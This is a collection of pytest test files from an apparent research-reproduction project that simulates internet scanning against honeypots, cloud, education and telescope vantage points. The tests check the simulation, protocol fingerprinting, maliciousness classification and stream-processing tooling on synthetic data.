        text = (REPO_ROOT / "DESIGN.md").read_text(encoding="utf-8")
        for package in ("repro.net", "repro.sim", "repro.scanners", "repro.honeypots",
                        "repro.searchengines", "repro.detection", "repro.deployment",
                        "repro.stats", "repro.analysis", "repro.experiments", "repro.io"):
            assert package in text, f"DESIGN.md does not mention {package}"

    def test_readme_examples_exist(self):
        text = (REPO_ROOT / "README.md").read_text(encoding="utf-8")
        for line in text.splitlines():
            if line.startswith("| `examples/"):
                name = line.split("`")[1]
                assert (REPO_ROOT / name).exists(), f"README references missing {name}"

    def test_every_benchmark_has_a_module(self):
        bench_dir = REPO_ROOT / "benchmarks"
        benches = {path.stem for path in bench_dir.glob("test_bench_*.py")}
        # one bench per paper table/figure + extensions + ablations + simulation
        for table in range(1, 18):
            assert f"test_bench_table{table:02d}" in benches
        assert "test_bench_figure01" in benches
        assert "test_bench_method" in benches
        assert "test_bench_ablations" in benches
        assert "test_bench_simulation" in benches

    def test_design_md_confirms_paper_identity(self):
        text = (REPO_ROOT / "DESIGN.md").read_text(encoding="utf-8")
        assert "Paper identity confirmed" in text


class TestYearOverYearShift:
    def test_shift_detects_population_drift(self, small_context, small_context_2020):
        from repro.analysis.temporal import year_over_year_shift

        shifts = year_over_year_shift(small_context_2020.dataset, small_context.dataset)
        assert shifts
        by_slice = {shift.slice_name: shift for shift in shifts}
        # 2020's anomalous single-region SSH campaigns shift the SSH AS mix.
        assert by_slice["ssh22"].drifted

    def test_same_dataset_no_drift(self, small_context):
        from repro.analysis.temporal import year_over_year_shift

        shifts = year_over_year_shift(small_context.dataset, small_context.dataset)
        assert all(not shift.drifted for shift in shifts)
        assert all(shift.phi < 0.01 for shift in shifts)
