"""Unit tests for the network-type comparison module on synthetic data."""

from collections import Counter

import numpy as np
import pytest

from repro.analysis.dataset import AnalysisDataset
from repro.analysis.networks import (
    HONEYTRAP_SITES,
    TABLE7_LAYOUT,
    network_type_report,
    telescope_as_report,
)
from repro.honeypots.base import VantagePoint
from repro.honeypots.honeytrap import HoneytrapStack
from repro.honeypots.telescope import TelescopeCapture, TelescopeStack
from repro.sim.clock import WEEK_2021
from repro.sim.events import CapturedEvent, NetworkKind


def ht_vantage(site, index, ip):
    network, region_code = HONEYTRAP_SITES[site]
    kind = NetworkKind.EDU if network in ("stanford", "merit") else NetworkKind.CLOUD
    return VantagePoint(
        vantage_id=f"ht-{site}-{index}", network=network, kind=kind,
        region_code=region_code, continent="NA",
        ips=np.asarray([ip], dtype=np.uint32), stack=HoneytrapStack(),
    )


def event(vantage, *, src_ip=1, src_asn=100, port=22, payload=b"SSH-2.0-x\r\n"):
    return CapturedEvent(
        vantage_id=vantage.vantage_id, network=vantage.network,
        network_kind=vantage.kind, region=vantage.region_code,
        timestamp=1.0, src_ip=src_ip, src_asn=src_asn,
        dst_ip=int(vantage.ips[0]), dst_port=port, handshake=True,
        payload=payload,
    )


@pytest.fixture()
def honeytrap_world():
    """All five Honeytrap sites, same scanners everywhere except Merit."""
    vantages = []
    ip = 1000
    for site in HONEYTRAP_SITES:
        for index in range(3):
            vantages.append(ht_vantage(site, index, ip))
            ip += 1
    events = []
    for vantage in vantages:
        # A common population hits every site...
        for scanner in range(30):
            events.append(event(vantage, src_ip=scanner, src_asn=100 + scanner % 3))
        # ...and Merit additionally gets a site-specific wave.
        if vantage.network == "merit":
            for scanner in range(60):
                events.append(event(vantage, src_ip=5000 + scanner, src_asn=666))
    return AnalysisDataset(events, vantages, WEEK_2021)


class TestNetworkTypeReport:
    def test_layout_complete(self, honeytrap_world):
        cells = network_type_report(honeytrap_world)
        per_comparison = {}
        for cell in cells:
            per_comparison.setdefault(cell.comparison, 0)
            per_comparison[cell.comparison] += 1
        expected_cells = sum(len(chars) for chars in TABLE7_LAYOUT.values())
        assert per_comparison["cloud-edu"] == expected_cells
        assert per_comparison["edu-edu"] == expected_cells

    def test_site_anomaly_detected_in_edu_edu(self, honeytrap_world):
        cells = {(c.comparison, c.slice_name, c.characteristic): c
                 for c in network_type_report(honeytrap_world)}
        anomaly = cells[("edu-edu", "ssh22", "as")]
        assert anomaly.num_different == 1  # Merit's wave differs from Stanford
        assert anomaly.avg_phi > 0.2

    def test_credentials_unmeasurable_on_honeytrap(self, honeytrap_world):
        cells = network_type_report(honeytrap_world)
        credential_cells = [c for c in cells if c.characteristic in ("username", "password")
                            and c.comparison in ("cloud-edu", "edu-edu")]
        assert credential_cells
        assert all(not c.measurable for c in credential_cells)


class TestTelescopeAsReport:
    def test_detects_divergent_telescope_population(self, honeytrap_world):
        telescope_vantage = VantagePoint(
            vantage_id="orion", network="orion", kind=NetworkKind.TELESCOPE,
            region_code="US-EAST", continent="NA",
            ips=np.arange(9000, 9256, dtype=np.uint32), stack=TelescopeStack(),
        )
        capture = TelescopeCapture(telescope_vantage)
        capture.record_source_hits(
            22,
            np.asarray([7000 + i for i in range(40)], dtype=np.uint32),
            np.asarray([4134] * 40),
            np.asarray([5] * 40),
        )
        dataset = AnalysisDataset(
            honeytrap_world.events, honeytrap_world.vantages, WEEK_2021,
            telescope=capture,
        )
        cells = {(c.comparison, c.slice_name): c for c in telescope_as_report(dataset)}
        ssh = cells[("telescope-edu", "ssh22")]
        assert ssh.num_different == ssh.num_sites  # AS 4134 vs AS 100-102
        assert ssh.avg_phi > 0.5

    def test_requires_telescope(self, honeytrap_world):
        with pytest.raises(ValueError):
            telescope_as_report(honeytrap_world)
