"""Shared fixtures: one small simulated dataset reused across tests.

Building a simulation is the expensive step, so integration tests share a
session-scoped context at a reduced population scale and telescope size.
"""

import pytest

from repro.experiments.context import ExperimentConfig, get_context

SMALL = ExperimentConfig(year=2021, scale=0.25, telescope_slash24s=8, seed=1234)
SMALL_2020 = ExperimentConfig(year=2020, scale=0.25, telescope_slash24s=8, seed=1234)
SMALL_2022 = ExperimentConfig(year=2022, scale=0.25, telescope_slash24s=8, seed=1234)


@pytest.fixture(scope="session")
def small_context():
    """A small 2021 simulation shared by all integration tests."""
    return get_context(SMALL)


@pytest.fixture(scope="session")
def small_context_2020():
    return get_context(SMALL_2020)


@pytest.fixture(scope="session")
def small_context_2022():
    return get_context(SMALL_2022)


@pytest.fixture(scope="session")
def dataset(small_context):
    return small_context.dataset
