"""The `cloudwatching watch` service end to end: the simulation tap,
the orchestrate-spill attachment (including ``--workers auto``), and
the CLI surface.
"""

from __future__ import annotations

import json
import shutil
import threading
import time

import pytest

from repro.cli import main
from repro.experiments.context import ExperimentConfig
from repro.runner import orchestrate, resolve_workers
from repro.stream import WatchOptions, watch_run_dir, watch_simulation

#: Tiny but non-degenerate: every attachment mode sees real traffic.
TINY = ExperimentConfig(year=2021, scale=0.05, telescope_slash24s=4, seed=5)


class TestWatchSimulation:
    def test_taps_simulation_and_snapshots(self):
        said: list[str] = []
        summary = watch_simulation(
            TINY,
            options=WatchOptions(snapshot_events=10000, max_snapshots=2),
            say=said.append,
        )
        assert summary["events"] > 1000
        assert summary["vantages"] > 5
        assert summary["bus"]["dropped_events"] == 0
        assert summary["bus"]["delivered_events"] == summary["events"]
        # Two periodic snapshots plus the final one.
        assert summary["snapshots"] == 3
        snapshots = [text for text in said if "stream snapshot" in text]
        assert len(snapshots) == 3
        assert "§3.3 cross-vantage comparisons" in snapshots[-1]
        assert "leak alarms" in snapshots[-1]

    def test_final_snapshot_only_by_default_cadence_zero(self):
        said: list[str] = []
        summary = watch_simulation(
            TINY, options=WatchOptions(snapshot_events=0), say=said.append
        )
        assert summary["snapshots"] == 1


class TestWatchRunDir:
    def test_streams_spilled_shards(self, tmp_path):
        out_dir = tmp_path / "run"
        run = orchestrate(TINY, workers="auto", out_dir=out_dir,
                          num_shards=2, quiet=True)
        assert not run.partial

        record = json.loads((out_dir / "run.json").read_text())
        assert record["workers_requested"] == "auto"
        assert isinstance(record["workers"], int) and record["workers"] >= 1
        assert record["workers"] == resolve_workers("auto")

        said: list[str] = []
        summary = watch_run_dir(
            out_dir, options=WatchOptions(chunk_events=512), say=said.append
        )
        assert summary["shards"] == 2
        assert summary["events"] == run.context.result.total_events()
        assert summary["bus"]["dropped_events"] == 0
        assert any("streaming shard-" in line for line in said)
        assert any("stream snapshot" in line for line in said)

    def test_missing_run_dir_raises(self, tmp_path):
        with pytest.raises(FileNotFoundError):
            watch_run_dir(tmp_path / "nope")

    def test_directory_without_completed_shards_raises(self, tmp_path):
        (tmp_path / "shard-0000").mkdir()  # no manifest: still in flight
        with pytest.raises(FileNotFoundError):
            watch_run_dir(tmp_path)


class TestWatchFollowTolerance:
    """Follow mode against shards that are not (yet) fully written."""

    @pytest.fixture(scope="class")
    def pristine_run(self, tmp_path_factory):
        out = tmp_path_factory.mktemp("follow") / "run"
        run = orchestrate(TINY, workers=1, out_dir=out, num_shards=2, quiet=True)
        assert not run.partial
        return out, run.context.result.total_events()

    @staticmethod
    def _copy_with_truncated_shard(pristine, dest):
        """A run dir whose second shard has a manifest but torn banks."""
        shutil.copytree(pristine, dest)
        bank = dest / "shard-0001" / "columns.npz"
        bank.write_bytes(bank.read_bytes()[:200])
        return bank

    def test_in_flight_shard_is_retried_until_readable(self, pristine_run, tmp_path):
        pristine, total = pristine_run
        dest = tmp_path / "run"
        bank = self._copy_with_truncated_shard(pristine, dest)
        whole = (pristine / "shard-0001" / "columns.npz").read_bytes()

        def _repair():
            time.sleep(0.6)
            bank.write_bytes(whole)

        repair = threading.Thread(target=_repair)
        repair.start()
        said: list[str] = []
        try:
            summary = watch_run_dir(
                dest, options=WatchOptions(snapshot_events=0), say=said.append,
                follow_seconds=5.0, poll_seconds=0.1,
            )
        finally:
            repair.join()
        assert summary["shards"] == 2
        assert summary["events"] == total
        assert summary["bus"]["dropped_events"] == 0
        assert any("not readable yet" in line for line in said)
        assert not any("abandoning" in line for line in said)

    def test_permanently_damaged_shard_is_abandoned_not_fatal(
        self, pristine_run, tmp_path
    ):
        pristine, total = pristine_run
        dest = tmp_path / "run"
        self._copy_with_truncated_shard(pristine, dest)
        said: list[str] = []
        summary = watch_run_dir(
            dest, options=WatchOptions(snapshot_events=0), say=said.append,
            follow_seconds=4.0, poll_seconds=0.05,
        )
        assert summary["shards"] == 1
        assert 0 < summary["events"] < total
        assert any("abandoning shard-0001" in line for line in said)
        assert any("not readable yet" in line for line in said)


class TestResolveWorkers:
    def test_auto_derives_from_cpu_count(self):
        assert resolve_workers("auto") >= 1

    def test_explicit_counts_pass_through(self):
        assert resolve_workers(3) == 3
        assert resolve_workers(1) == 1

    def test_rejects_nonsense(self):
        with pytest.raises(ValueError):
            resolve_workers(0)
        with pytest.raises(ValueError):
            resolve_workers("three")


class TestWatchCli:
    def test_simulate_mode_smoke(self, capsys):
        code = main([
            "watch", "--simulate", "--scale", "0.05", "--telescope", "4",
            "--seed", "5", "--snapshot-events", "0",
        ])
        assert code == 0
        out = capsys.readouterr().out
        assert "stream snapshot" in out
        assert "watch done:" in out
        assert "0 dropped" in out

    def test_run_dir_mode(self, tmp_path, capsys):
        out_dir = tmp_path / "cli-run"
        assert main([
            "orchestrate", "--out", str(out_dir), "--scale", "0.05",
            "--telescope", "4", "--seed", "5", "--shards", "2",
            "--workers", "auto", "--experiments",
        ]) == 0
        capsys.readouterr()
        assert main([
            "watch", "--run-dir", str(out_dir), "--snapshot-events", "0",
        ]) == 0
        out = capsys.readouterr().out
        assert "watch done:" in out

    def test_workers_flag_rejects_junk(self, capsys):
        with pytest.raises(SystemExit):
            main(["orchestrate", "--workers", "zero"])
        assert "auto" in capsys.readouterr().err
