"""Tests for the traffic-simulation engine."""

import numpy as np
import pytest

from repro.deployment.fleet import build_full_deployment
from repro.net.packets import Transport
from repro.scanners.base import PortPlan, ScannerSpec, SearchEngineUse
from repro.scanners.strategies import CoverageModel, TargetStrategy
from repro.sim.engine import SimulationConfig, Simulator, run_simulation
from repro.sim.events import NetworkKind
from repro.sim.rng import RngHub


@pytest.fixture(scope="module")
def tiny_deployment():
    return build_full_deployment(RngHub(3), num_telescope_slash24s=4)


def spec(scanner_id="s-0", asn=4134, port=80, protocol="http", rate=2.0,
         strategy=None, **kwargs):
    plan_kwargs = {}
    if protocol == "http":
        plan_kwargs = {"http_payloads": ("root-get",), "http_weights": (1.0,)}
    return ScannerSpec(
        scanner_id=scanner_id,
        family="test",
        asn=asn,
        strategy=strategy or TargetStrategy(),
        plans=(PortPlan(port, protocol, rate, **plan_kwargs),),
        **kwargs,
    )


class TestDeterminism:
    def test_same_seed_same_events(self, tiny_deployment):
        population = [spec()]
        first = run_simulation(tiny_deployment, population, SimulationConfig(seed=5))
        second = run_simulation(tiny_deployment, population, SimulationConfig(seed=5))
        assert first.total_events() == second.total_events()
        for vantage_id in first.captures:
            a = first.captures[vantage_id].events
            b = second.captures[vantage_id].events
            assert a == b

    def test_different_seed_different_traffic(self, tiny_deployment):
        population = [spec(rate=3.0)]
        first = run_simulation(tiny_deployment, population, SimulationConfig(seed=5))
        second = run_simulation(tiny_deployment, population, SimulationConfig(seed=6))
        first_ts = [e.timestamp for e in first.events()]
        second_ts = [e.timestamp for e in second.events()]
        assert first_ts != second_ts


class TestCaptureSemantics:
    def test_telescope_receives_no_payloads(self, tiny_deployment):
        result = run_simulation(tiny_deployment, [spec(rate=3.0)], SimulationConfig(seed=5))
        telescope = result.telescope
        assert telescope.total_unique_sources() >= 1
        # the aggregated capture stores counts, never payload bytes
        assert not hasattr(telescope, "payloads")

    def test_events_inside_window(self, tiny_deployment):
        result = run_simulation(tiny_deployment, [spec(rate=3.0)], SimulationConfig(seed=5))
        hours = result.window.hours
        assert all(0 <= event.timestamp < hours for event in result.events())

    def test_source_asn_attribution(self, tiny_deployment):
        result = run_simulation(tiny_deployment, [spec(asn=4134)], SimulationConfig(seed=5))
        assert all(event.src_asn == 4134 for event in result.events())

    def test_sources_come_from_origin_as(self, tiny_deployment):
        result = run_simulation(
            tiny_deployment, [spec(asn=4134, num_sources=5)], SimulationConfig(seed=5)
        )
        for source in result.source_ips["s-0"]:
            assert result.registry.asn_of(int(source)) == 4134

    def test_credentials_only_on_interactive_stacks(self, tiny_deployment):
        population = [
            ScannerSpec(
                scanner_id="ssh-0", family="test", asn=4134,
                strategy=TargetStrategy(),
                plans=(PortPlan(22, "ssh", 3.0, credential_dialect="global-ssh",
                                credential_attempts=(2, 4)),),
            )
        ]
        result = run_simulation(tiny_deployment, population, SimulationConfig(seed=5))
        greynoise = [e for e in result.events() if e.vantage_id.startswith("gn-")]
        honeytrap = [e for e in result.events()
                     if e.vantage_id.startswith("ht-") and e.dst_port == 22]
        assert any(e.credentials for e in greynoise)
        assert all(not e.credentials for e in honeytrap)


class TestStrategyEffects:
    def test_telescope_avoider_never_seen_there(self, tiny_deployment):
        avoider = spec(
            scanner_id="avoid-0",
            strategy=TargetStrategy(kind_weights={NetworkKind.TELESCOPE: 0.0}),
            rate=4.0,
        )
        result = run_simulation(tiny_deployment, [avoider], SimulationConfig(seed=5))
        assert result.telescope.total_unique_sources() == 0
        assert result.total_events() > 0

    def test_exclusive_network(self, tiny_deployment):
        hurricane_only = spec(
            scanner_id="he-0", port=22, protocol="ssh",
            strategy=TargetStrategy(exclusive_networks=("hurricane",)),
            rate=4.0,
        )
        result = run_simulation(tiny_deployment, [hurricane_only], SimulationConfig(seed=5))
        networks = {event.network for event in result.events()}
        assert networks == {"hurricane"}

    def test_max_sessions_safety_valve(self, tiny_deployment):
        runaway = spec(rate=1e9)
        config = SimulationConfig(seed=5, max_sessions_per_pair=4)
        result = run_simulation(tiny_deployment, [runaway], config)
        from collections import Counter

        per_pair = Counter((event.src_ip, event.dst_ip) for event in result.events())
        assert max(per_pair.values()) < 30  # Poisson(4) tail, not 1e9


class TestSearchEngineBehavior:
    def test_leaked_services_attract_spikes(self, tiny_deployment):
        miner = ScannerSpec(
            scanner_id="miner-0", family="test", asn=4134,
            strategy=TargetStrategy(coverage=CoverageModel(0.05),
                                    kind_weights={NetworkKind.TELESCOPE: 0.0}),
            plans=(PortPlan(80, "http", 0.1,
                            http_payloads=("log4shell",), http_weights=(1.0,)),),
            search_engine=SearchEngineUse("censys", spike_sessions=30),
        )
        result = run_simulation(tiny_deployment, [miner], SimulationConfig(seed=5))
        experiment = tiny_deployment.leak_experiment
        censys_http = next(
            g for g in experiment.leak_groups if g.engine == "censys" and g.port == 80
        )
        shodan_http = next(
            g for g in experiment.leak_groups if g.engine == "shodan" and g.port == 80
        )
        hits = {"censys": 0, "shodan": 0, "control": 0}
        for event in result.events():
            if event.dst_ip in censys_http.ips:
                hits["censys"] += 1
            elif event.dst_ip in shodan_http.ips:
                hits["shodan"] += 1
            elif event.dst_ip in experiment.control_ips:
                hits["control"] += 1
        assert hits["censys"] > 10 * max(hits["shodan"], 1)
        assert hits["censys"] > 10 * max(hits["control"], 1)

    def test_avoid_mode_skips_indexed_services(self, tiny_deployment):
        avoider = ScannerSpec(
            scanner_id="nmap-0", family="test", asn=198605,
            strategy=TargetStrategy(kind_weights={NetworkKind.TELESCOPE: 0.0}),
            plans=(PortPlan(80, "http", 3.0,
                            http_payloads=("nmap-options",), http_weights=(1.0,)),),
            search_engine=SearchEngineUse("censys", mode="avoid"),
        )
        result = run_simulation(tiny_deployment, [avoider], SimulationConfig(seed=5))
        censys_index = result.engines["censys"].index
        listed = {entry.ip for entry in censys_index.services_on_port(80)}
        hit = {event.dst_ip for event in result.events() if event.dst_port == 80}
        assert hit, "avoider must still scan unlisted destinations"
        assert not (hit & listed)

    def test_boosted_credentials_are_distinct(self):
        plan = PortPlan(22, "ssh", 1.0, credential_dialect="global-ssh",
                        credential_attempts=(2, 4))
        boosted = Simulator._boost_credentials(plan, 3.0)
        assert boosted.distinct_credentials
        assert boosted.credential_attempts == (6, 12)
        untouched = Simulator._boost_credentials(plan, 1.0)
        assert untouched is plan


class TestResultAccessors:
    def test_total_events_matches_iteration(self, tiny_deployment):
        result = run_simulation(tiny_deployment, [spec(rate=2.0)], SimulationConfig(seed=5))
        assert result.total_events() == sum(1 for _ in result.events())

    def test_honeypot_vantages(self, tiny_deployment):
        result = run_simulation(tiny_deployment, [spec()], SimulationConfig(seed=5))
        assert len(result.honeypot_vantages()) == len(tiny_deployment.honeypots)


class TestCalibrationValidation:
    def test_calibration_report_passes(self, small_context):
        from repro.sim.validation import validate_calibration

        report = validate_calibration(small_context.result)
        assert report.ok, "\n".join(str(f) for f in report.failures())
        checks = {finding.check for finding in report.findings}
        assert {"telescope-avoidance", "as-attribution",
                "malicious-detectability"} <= checks

    def test_findings_render(self, small_context):
        from repro.sim.validation import validate_calibration

        report = validate_calibration(small_context.result)
        for finding in report.findings:
            assert finding.check in str(finding)

    def test_volume_check_fails_on_empty(self, tiny_deployment):
        from repro.sim.validation import validate_calibration

        result = run_simulation(tiny_deployment, [spec(rate=0.0)], SimulationConfig(seed=5))
        report = validate_calibration(result)
        assert not report.ok
        assert any(f.check == "volume" for f in report.failures())
