"""Gap-filling tests: paths not exercised by the main suites."""

import numpy as np
import pytest

from repro.analysis.geography import RegionProfile, _grouping_of
from repro.experiments.base import ExperimentOutput
from repro.reporting.markdown import experiment_to_markdown, write_markdown_report


def profile(region, continent):
    return RegionProfile(network="aws", region=region, continent=continent,
                         counters={}, fractions={})


class TestGeoGrouping:
    def test_us_pair(self):
        assert _grouping_of(profile("US-CA", "NA"), profile("US-OR", "NA")) == "US"

    def test_us_canada_is_cross_region(self):
        assert _grouping_of(profile("US-CA", "NA"), profile("CA-QC", "NA")) == "intercontinental"

    def test_eu_pair(self):
        assert _grouping_of(profile("EU-DE", "EU"), profile("EU-FR", "EU")) == "EU"

    def test_apac_pair(self):
        assert _grouping_of(profile("AP-SG", "AP"), profile("AP-JP", "AP")) == "APAC"

    def test_cross_continent(self):
        assert _grouping_of(profile("US-CA", "NA"), profile("AP-SG", "AP")) == "intercontinental"

    def test_other_continents_unused(self):
        assert _grouping_of(profile("SA-BR", "SA"), profile("SA-BR", "SA")) is None


class TestMarkdownReporting:
    def _output(self, experiment_id="T9", title="Demo table"):
        return ExperimentOutput(experiment_id, title, "| a | b |\n| 1 | 2 |", data=None)

    def test_section_format(self):
        text = experiment_to_markdown(self._output())
        assert text.startswith("## T9: Demo table")
        assert "```text" in text and "| a | b |" in text

    def test_report_toc_links(self, tmp_path):
        outputs = [self._output("T1", "First"), self._output("T2", "Second")]
        path = write_markdown_report(outputs, tmp_path / "r.md", title="My Report")
        text = path.read_text()
        assert text.startswith("# My Report")
        assert "- [T1: First](#t1-first)" in text
        assert "## T2: Second" in text


class TestUdpEngineEnd2End:
    def test_udp_reaches_telescope_and_honeypots(self, small_context):
        """UDP campaigns appear in both capture paths."""
        from repro.net.packets import Transport

        result = small_context.result
        udp_at_honeypots = [e for e in result.events()
                            if e.transport is Transport.UDP]
        assert udp_at_honeypots
        # Telescope records UDP ports too (header-only, no distinction lost).
        assert 5060 in result.telescope.ports() or 123 in result.telescope.ports()

    def test_udp_fingerprintable_at_honeytrap(self, dataset):
        sip = [e for e in dataset.events if e.dst_port == 5060]
        assert sip
        fingerprints = {dataset.fingerprint_of(e) for e in sip if e.payload}
        assert "sip" in fingerprints


class TestCliHoneypotVariants:
    def test_ssh_and_raw_services(self, capsys):
        import asyncio
        import threading
        import time

        from repro.cli import main

        results = {}

        def _serve():
            # note: negative ephemeral keys need --port=KEY=SERVICE syntax so
            # argparse does not read "-1=raw" as an option
            results["code"] = main([
                "honeypots", "--port", "0=ssh", "--port=-1=raw", "--duration", "1.2",
            ])

        thread = threading.Thread(target=_serve)
        thread.start()
        try:
            time.sleep(0.4)
            line = next(l for l in capsys.readouterr().out.splitlines()
                        if "listening on" in l)
            ports = [int(part.split(" ")[0]) for part in line.split("127.0.0.1:")[1:]]

            async def _poke():
                for port, payload in zip(ports, (b"SSH-2.0-Go\r\n", b"\x16\x03\x01rest")):
                    reader, writer = await asyncio.open_connection("127.0.0.1", port)
                    writer.write(payload)
                    await writer.drain()
                    try:
                        await asyncio.wait_for(reader.read(1024), timeout=1.0)
                    except asyncio.TimeoutError:
                        pass
                    writer.close()
                    await writer.wait_closed()

            asyncio.run(_poke())
        finally:
            thread.join(timeout=10)
        assert results["code"] == 0
        assert "captured 2 sessions" in capsys.readouterr().out


class TestFirewallInDeployment:
    def test_firewalled_greynoise_depresses_measured_maliciousness(self):
        """End-to-end: wrapping the fleet's stacks hides malicious traffic."""
        from repro.analysis.dataset import AnalysisDataset
        from repro.deployment.fleet import build_full_deployment
        from repro.honeypots.base import VantagePoint
        from repro.honeypots.firewall import FirewalledStack
        from repro.scanners.population import PopulationConfig, build_population
        from repro.sim.engine import SimulationConfig, run_simulation
        from repro.sim.rng import RngHub

        population = build_population(PopulationConfig(scale=0.1))

        def measure(drop):
            deployment = build_full_deployment(RngHub(23), num_telescope_slash24s=4,
                                               include_leak_experiment=False)
            if drop:
                deployment.honeypots = [
                    VantagePoint(
                        vantage_id=v.vantage_id, network=v.network, kind=v.kind,
                        region_code=v.region_code, continent=v.continent,
                        ips=v.ips, stack=FirewalledStack(v.stack, drop, seed=23),
                    )
                    for v in deployment.honeypots
                ]
            result = run_simulation(deployment, population, SimulationConfig(seed=23))
            dataset = AnalysisDataset.from_simulation(result)
            malicious, total = dataset.malicious_fraction(dataset.events)
            return malicious / max(total, 1)

        assert measure(0.9) < 0.5 * measure(0.0)
