"""Tests for LZR-style fingerprinting and maliciousness classification."""

import pytest
from hypothesis import given, strategies as st

from repro.detection.classify import (
    MaliciousnessClassifier,
    Reputation,
    ReputationOracle,
    VETTED_BENIGN_ASES,
    is_malicious_event,
)
from repro.detection.fingerprint import FINGERPRINT_PROTOCOLS, fingerprint
from repro.scanners.payloads import HTTP_CORPUS, LZR_PROTOCOLS, protocol_first_payload
from repro.sim.events import CapturedEvent, NetworkKind


def make_event(payload=b"", credentials=(), port=80, src_ip=1, src_asn=999):
    return CapturedEvent(
        vantage_id="v", network="aws", network_kind=NetworkKind.CLOUD,
        region="US-CA", timestamp=1.0, src_ip=src_ip, src_asn=src_asn,
        dst_ip=2, dst_port=port, handshake=True,
        payload=payload, credentials=credentials,
    )


class TestFingerprint:
    @pytest.mark.parametrize("protocol", LZR_PROTOCOLS)
    def test_round_trip_all_13_protocols(self, protocol):
        assert fingerprint(protocol_first_payload(protocol)) == protocol

    def test_corpus_is_http(self):
        for entry in HTTP_CORPUS:
            assert fingerprint(entry.render()) == "http", entry.name

    def test_empty_payload_is_none(self):
        assert fingerprint(b"") is None

    def test_garbage_is_unknown(self):
        assert fingerprint(b"\x00\x01\x02garbage") == "unknown"

    def test_http_requires_version_token(self):
        assert fingerprint(b"GET / HTTP/1.1\r\n\r\n") == "http"
        assert fingerprint(b"GET something-else\r\n") == "unknown"

    def test_rtsp_not_confused_with_http(self):
        assert fingerprint(b"OPTIONS rtsp://1.2.3.4/ RTSP/1.0\r\nCSeq: 1\r\n\r\n") == "rtsp"

    def test_sip_not_confused_with_http(self):
        assert fingerprint(b"OPTIONS sip:nm SIP/2.0\r\n\r\n") == "sip"

    def test_telnet_iac_negotiation(self):
        assert fingerprint(b"\xff\xfd\x01") == "telnet"
        assert fingerprint(b"\xff\x01") == "unknown"  # IAC without verb

    def test_tls_version_check(self):
        payload = bytearray(protocol_first_payload("tls"))
        payload[1] = 0x02  # not an SSL3+/TLS record
        assert fingerprint(bytes(payload)) != "tls"

    def test_all_signatures_reachable(self):
        assert set(FINGERPRINT_PROTOCOLS) == set(LZR_PROTOCOLS)

    @given(st.binary(min_size=1, max_size=64))
    def test_total_function(self, blob):
        result = fingerprint(blob)
        assert result == "unknown" or result in FINGERPRINT_PROTOCOLS


class TestMaliciousness:
    def test_login_attempt_is_malicious(self):
        event = make_event(credentials=(("root", "root"),), port=22)
        assert is_malicious_event(event)

    def test_exploit_payload_is_malicious(self):
        from repro.scanners.payloads import http_payload

        event = make_event(payload=http_payload("log4shell").render())
        assert is_malicious_event(event)

    def test_benign_get_is_not(self):
        from repro.scanners.payloads import http_payload

        event = make_event(payload=http_payload("root-get").render())
        assert not is_malicious_event(event)

    def test_telescope_event_never_malicious(self):
        """No payload, no credentials => unclassifiable (Section 8)."""
        event = make_event(payload=b"", credentials=())
        assert not is_malicious_event(event)

    def test_classifier_reusable(self):
        classifier = MaliciousnessClassifier()
        event = make_event(credentials=(("a", "b"),))
        assert classifier.is_malicious(event)
        assert classifier.is_malicious(event)


class TestReputationOracle:
    def test_malicious_overrides_vetted(self):
        oracle = ReputationOracle()
        vetted_asn = next(iter(VETTED_BENIGN_ASES))
        oracle.observe(make_event(credentials=(("a", "b"),), src_ip=5, src_asn=vetted_asn))
        assert oracle.reputation(5) is Reputation.MALICIOUS

    def test_vetted_is_benign(self):
        oracle = ReputationOracle()
        vetted_asn = next(iter(VETTED_BENIGN_ASES))
        oracle.observe(make_event(src_ip=6, src_asn=vetted_asn, payload=b"GET / HTTP/1.1\r\n\r\n"))
        assert oracle.reputation(6) is Reputation.BENIGN

    def test_unvetted_nonmalicious_is_unknown(self):
        oracle = ReputationOracle()
        oracle.observe(make_event(src_ip=7, src_asn=99999, payload=b"GET / HTTP/1.1\r\n\r\n"))
        assert oracle.reputation(7) is Reputation.UNKNOWN

    def test_never_seen_ip_unknown(self):
        assert ReputationOracle().reputation(123) is Reputation.UNKNOWN

    def test_exploit_anywhere_marks_everywhere(self):
        """An IP seen exploiting once is malicious for all later queries."""
        oracle = ReputationOracle()
        oracle.observe(make_event(src_ip=8, credentials=(("root", "root"),), port=22))
        oracle.observe(make_event(src_ip=8, payload=b"GET / HTTP/1.1\r\n\r\n", port=80))
        assert oracle.reputation(8) is Reputation.MALICIOUS

    def test_counts(self):
        oracle = ReputationOracle()
        vetted_asn = next(iter(VETTED_BENIGN_ASES))
        oracle.observe(make_event(src_ip=1, src_asn=vetted_asn, payload=b"GET / HTTP/1.1\r\n\r\n"))
        oracle.observe(make_event(src_ip=2, credentials=(("a", "b"),)))
        oracle.observe(make_event(src_ip=3, src_asn=1234, payload=b"GET / HTTP/1.1\r\n\r\n"))
        counts = oracle.counts()
        assert counts[Reputation.BENIGN] == 1
        assert counts[Reputation.MALICIOUS] == 1
        assert counts[Reputation.UNKNOWN] == 1

    def test_observe_all_chains(self):
        events = [make_event(src_ip=i) for i in range(5)]
        oracle = ReputationOracle().observe_all(events)
        assert len(oracle.counts()) >= 1
