"""Integration tests: the paper's findings are *rediscovered* from capture.

Every assertion here runs the real analysis pipeline on the shared small
simulation and checks the direction (and rough magnitude) of a paper
finding.  None of these tests read simulator ground truth.
"""

import numpy as np
import pytest

from repro.analysis.leak import leak_report, unique_credentials_per_group
from repro.analysis.neighborhoods import neighborhood_report
from repro.analysis.networks import network_type_report, telescope_as_report
from repro.analysis.overlap import attacker_overlap, scanner_overlap
from repro.analysis.ports import methodology_numbers, protocol_breakdown
from repro.analysis.structure import structure_profile
from repro.analysis.summary import vantage_summary


@pytest.fixture(scope="module")
def overlap_rows(dataset):
    return {row.port: row for row in scanner_overlap(dataset)}


class TestTelescopeAvoidance:
    """Section 5.2, Tables 8-10."""

    def test_ssh_scanners_avoid_telescope(self, overlap_rows):
        assert overlap_rows[22].telescope_cloud_pct < 35.0
        assert overlap_rows[2222].telescope_cloud_pct < 25.0

    def test_telnet_botnets_do_not_avoid(self, overlap_rows):
        assert overlap_rows[23].telescope_cloud_pct > 80.0

    def test_ssh_versus_telnet_gap(self, overlap_rows):
        assert (
            overlap_rows[23].telescope_cloud_pct
            > overlap_rows[22].telescope_cloud_pct + 30.0
        )

    def test_edu_overlap_exceeds_cloud_overlap(self, overlap_rows):
        """Merit/Orion same-AS adjacency effect."""
        for port in (22, 2222, 21, 25):
            assert (
                overlap_rows[port].telescope_edu_pct
                > overlap_rows[port].telescope_cloud_pct + 15.0
            ), f"port {port}"

